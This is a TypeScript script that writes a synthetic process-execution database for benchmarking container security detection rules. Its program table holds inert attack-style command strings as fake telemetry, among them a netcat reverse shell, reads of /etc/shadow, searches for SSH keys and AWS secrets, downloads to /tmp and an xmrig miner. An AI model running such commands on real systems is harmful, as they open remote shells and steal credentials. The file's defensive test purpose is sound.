/**
 * Writes a synthetic case database with N exec rows directly (no import), for the rules
 * benchmark: one host, 2,000 containers (a few privileged, some with sensitive mounts), host
 * sessions and container workloads whose trees reach depth 30, a realistic mix of program
 * names (shells, web servers, package managers, network tools, miners, …), users, ttys, env
 * and failed execs. Deterministic for a given seed.
 */
import { existsSync, rmSync } from 'node:fs';
import { openCaseForWrite } from '../src/db/open.js';
import { Rng } from './lib/rng.js';

const PROGRAMS: [name: string, exepath: string, args: string[]][] = [
  ['bash', '/usr/bin/bash', ['', '-c "make all"', '-l']],
  ['sh', '/bin/sh', ['-c /usr/bin/healthcheck.sh', '-c "curl -s http://svc/x"', '-c date']],
  ['ls', '/usr/bin/ls', ['-la', '/tmp', '-R /var/log']],
  ['cat', '/usr/bin/cat', ['/etc/hosts', '/etc/shadow', '/proc/1/status']],
  ['grep', '/usr/bin/grep', ['-r password /etc', 'foo bar.txt', '-i aws_secret_access_key /root']],
  ['find', '/usr/bin/find', ['/ -name id_rsa', '. -type f', '/home -name .aws']],
  ['curl', '/usr/bin/curl', ['-s http://10.0.0.1/health', '-o /tmp/x http://203.0.113.7/x', '-k https://api']],
  ['wget', '/usr/bin/wget', ['-q -O /tmp/y http://203.0.113.7/y', 'http://mirror/pkg.tgz']],
  ['python3', '/usr/bin/python3.11', ['app.py', '-c "import socket"', '-m pip install x']],
  ['node', '/usr/local/bin/node', ['server.js', 'npm-cli.js install']],
  ['nginx', '/usr/sbin/nginx', ['-g "daemon off;"']],
  ['postgres', '/usr/lib/postgresql/15/bin/postgres', ['-D /var/lib/postgresql/data']],
  ['apt-get', '/usr/bin/apt-get', ['install -y netcat', 'update']],
  ['mount', '/usr/bin/mount', ['-t proc proc /proc', '-l', '/dev/sda1 /mnt']],
  ['nc', '/usr/bin/nc', ['-e /bin/sh 10.0.0.9 4444', '-l 8080']],
  ['sudo', '/usr/bin/sudo', ['-i', 'ls /root']],
  ['ps', '/usr/bin/ps', ['aux', '-ef']],
  ['top', '/usr/bin/top', ['-b -n 1']],
  ['git', '/usr/bin/git', ['clone https://x/y', 'status']],
  ['java', '/usr/bin/java', ['-jar app.jar']],
  ['rm', '/usr/bin/rm', ['-rf /tmp/build', '-f /var/run/x.pid']],
  ['xmrig', '/tmp/xmrig', ['-o stratum+tcp://pool:3333']],
  ['kubectl', '/usr/local/bin/kubectl', ['get pods', 'exec -it x -- sh']],
  ['base64', '/usr/bin/base64', ['-d payload.txt', 'file']],
  ['useradd', '/usr/sbin/useradd', ['bob']],
  ['httpd', '/usr/local/apache2/bin/httpd', ['-DFOREGROUND']],
  ['whoami', '/usr/bin/whoami', ['']],
  ['id', '/usr/bin/id', ['']],
  ['awk', '/usr/bin/awk', ['{print $1}']],
  ['date', '/usr/bin/date', ['+%s']],
];

const IMAGES = [
  'docker.io/library/nginx',
  'docker.io/library/postgres',
  'quay.io/org/api',
  'gcr.io/proj/worker',
  'docker.io/library/alpine',
  'docker.io/falcosecurity/falco',
];
const USERS: [number, string][] = [
  [0, 'root'],
  [1000, 'alice'],
  [1001, 'bob'],
  [33, 'www-data'],
  [999, 'postgres'],
  [101, 'nginx'],
];

export function buildRulesCase(path: string, execCount: number, seed = 42): void {
  if (existsSync(path)) rmSync(path);
  const rng = new Rng(seed);
  const db = openCaseForWrite(path);
  db.prepare("INSERT INTO hosts (host_id, hostname) VALUES (1, 'bench-node')").run();
  db.prepare(
    "INSERT INTO captures (capture_id, path, sha256, size_bytes, format, host_id, importer, imported_ns, status) VALUES (1, 'synthetic', 'synthetic-rules-bench', 0, 'jsonl', 1, 'bench', 0, 'complete')",
  ).run();
  const insContainer = db.prepare(
    'INSERT INTO containers (container_id, name, image, image_repository, image_tag, privileged, pod_name, pod_namespace, mounts_json) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)',
  );
  const containers: string[] = [];
  for (let i = 0; i < 2000; i++) {
    const id = (0x100000000000 + i * 7919).toString(16).slice(0, 12);
    const repo = rng.pick(IMAGES);
    const mounts =
      i % 97 === 0 ? '[{"source":"/var/run/docker.sock","destination":"/var/run/docker.sock","mode":"","rw":true,"propagation":"rprivate"}]' : '[]';
    insContainer.run(id, `c${i}`, `${repo}:1.0`, repo, '1.0', i % 50 === 0 ? 1 : 0, `pod-${i}`, i % 10 === 0 ? 'kube-system' : 'default', mounts);
    containers.push(id);
  }
  const insProcess = db.prepare(
    "INSERT INTO processes (process_id, capture_id, host_id, pid, vpid, start_ns, container_id, origin, first_exec_id, last_exec_id) VALUES (?, 1, 1, ?, ?, ?, ?, 'fork', ?, ?)",
  );
  const insExec = db.prepare(
    `INSERT INTO execs (exec_id, process_id, capture_id, host_id, kind, parent_exec_id, ts_ns, pid, tid, vpid, ppid, name, exe, exepath, args, cmdline,
       cwd, uid, loginuid, user_name, tty, sid, vpgid, env, container_id, res, evt_num, evt_type)
     VALUES (?, ?, 1, 1, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
  );
  let ts = 1_732_800_000_000_000_000n;
  let id = 0;
  const depth: number[] = [0];
  const meta: { pid: number; container: string | null; tty: number }[] = [{ pid: 0, container: null, tty: 0 }];
  const recent: number[] = [];
  db.transaction(() => {
    // Roots: systemd, sshd and one init per container, as snapshot rows.
    const root = ++id;
    insProcess.run(root, 1, null, ts, null, root, root);
    insExec.run(
      root,
      root,
      'snapshot',
      null,
      ts,
      1,
      1,
      null,
      0,
      'systemd',
      '/sbin/init',
      '/usr/lib/systemd/systemd',
      '',
      'systemd',
      '/',
      0,
      -1,
      'root',
      0,
      1,
      1,
      null,
      null,
      null,
      null,
      'snapshot',
    );
    depth[root] = 0;
    meta[root] = { pid: 1, container: null, tty: 0 };
    const roots: number[] = [];
    for (const c of containers) {
      const e = ++id;
      insProcess.run(e, 10_000 + e, 1, ts, c, e, e);
      insExec.run(
        e,
        e,
        'snapshot',
        root,
        ts,
        10_000 + e,
        10_000 + e,
        1,
        1,
        'containerd-shim',
        '/usr/bin/containerd-shim-runc-v2',
        '/usr/bin/containerd-shim-runc-v2',
        '',
        'containerd-shim',
        '/',
        0,
        -1,
        'root',
        0,
        null,
        null,
        null,
        c,
        null,
        null,
        'snapshot',
      );
      depth[e] = 1;
      meta[e] = { pid: 10_000 + e, container: c, tty: 0 };
      roots.push(e);
    }
    let evtNum = 1000;
    for (let n = 0; n < execCount; n++) {
      const e = ++id;
      ts += BigInt(1000 + rng.int(1_000_000));
      evtNum += 1 + rng.int(20);
      let parent: number;
      const r = rng.next();
      if (recent.length > 0 && r < 0.75) parent = recent[recent.length - 1 - rng.int(Math.min(recent.length, 64))] as number;
      else if (r < 0.95) parent = rng.pick(roots);
      else parent = root;
      if ((depth[parent] ?? 0) >= 30) parent = rng.pick(roots);
      const pm = meta[parent] as { pid: number; container: string | null; tty: number };
      const [name, exepath, argChoices] = rng.pick(PROGRAMS);
      const args = rng.pick(argChoices);
      const [uid, user] = rng.pick(USERS);
      const pid = 100_000 + e;
      const failed = rng.int(200) === 0;
      const tty = pm.container === null ? (rng.int(3) === 0 ? 34816 : 0) : pm.tty;
      const env =
        rng.int(10) === 0 ? `PATH=/usr/bin\0HOME=/root${rng.int(50) === 0 ? '\0HTTP_PROXY=http://proxy:3128\0GLIBC_TUNABLES=glibc.malloc=1' : ''}` : null;
      insProcess.run(e, pid, pm.container ? 2 + rng.int(500) : null, ts, pm.container, e, e);
      insExec.run(
        e,
        e,
        'exec',
        parent,
        ts,
        pid,
        pid,
        pm.container ? (n % 1000 === 0 ? 1 : 2 + rng.int(500)) : null,
        pm.pid,
        failed ? (meta[parent] ? 'sh' : name) : name,
        name,
        exepath,
        args,
        args ? `${name} ${args}` : name,
        rng.pick(['/', '/root', '/tmp', '/dev/shm', '/var/www']),
        uid,
        rng.int(4) === 0 ? -1 : uid,
        user,
        tty,
        pid,
        pid,
        env,
        pm.container,
        failed ? -2 : 0,
        evtNum,
        rng.int(50) === 0 ? 'execveat' : 'execve',
      );
      depth[e] = (depth[parent] ?? 0) + 1;
      meta[e] = { pid, container: pm.container, tty };
      recent.push(e);
      if (recent.length > 4096) recent.splice(0, 2048);
    }
  })();
  db.pragma('optimize');
  db.close();
}
